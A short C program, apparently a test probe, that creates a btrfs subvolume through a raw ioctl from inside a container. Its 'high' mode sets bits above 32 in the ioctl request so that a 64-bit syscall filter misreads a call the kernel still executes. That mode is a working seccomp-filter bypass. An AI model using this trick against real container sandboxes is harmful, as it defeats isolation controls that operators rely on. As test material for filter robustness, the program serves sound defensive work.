/* What a tenant runs as root in its container to make a btrfs subvolume without btrfs-progs:
 * btrfs_ioctl DIR NAME plain|high. "high" sets bits above the 32 of the ioctl request: the kernel
 * reads the request as an unsigned int (the bits are dropped), a syscall filter sees all 64. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

struct vol_args { long long fd; char name[4088]; };  /* struct btrfs_ioctl_vol_args: 4096 bytes */
#define BTRFS_IOC_SUBVOL_CREATE 0x5000940eUL

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: btrfs_ioctl DIR NAME plain|high\n");
        return 2;
    }
    int dir = open(argv[1], O_RDONLY | O_DIRECTORY);
    if (dir < 0) {
        perror("open");
        return 1;
    }
    struct vol_args args;
    memset(&args, 0, sizeof args);
    strncpy(args.name, argv[2], sizeof args.name - 1);
    unsigned long request = BTRFS_IOC_SUBVOL_CREATE;
    if (strcmp(argv[3], "high") == 0)
        request |= 1UL << 32;
    long rc = syscall(SYS_ioctl, dir, request, &args);
    printf("rc=%ld errno=%d\n", rc, rc < 0 ? errno : 0);
    return rc < 0 ? 1 : 0;
}
